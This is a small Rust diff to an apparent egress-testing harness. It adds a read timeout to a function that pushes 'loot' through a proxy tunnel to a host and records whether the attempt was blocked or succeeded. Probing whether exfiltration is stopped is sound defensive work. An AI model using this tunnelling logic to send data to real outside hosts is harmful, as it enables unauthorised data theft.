@@ -135,7 +135,9 @@ fn through_proxy(attack: &str, what: &str, host: &str, loot: &[u8], tls: bool) -
         if let Err(e) = s.write_all(&payload) {
             return Outcome::blocked_plain(attack, format!("tunnel closed: {e}"));
         }
-        // Give the sink a moment to read before the connection drops.
+        // Give the sink a moment to read before the connection drops (it
+        // acknowledges only what it can parse, so do not wait long).
+        let _ = s.set_read_timeout(Some(Duration::from_millis(500)));
         let _ = read_status(&mut s);
         return Outcome::succeeded(attack, format!("{what}, sent through a tunnel to {host}"));
     }
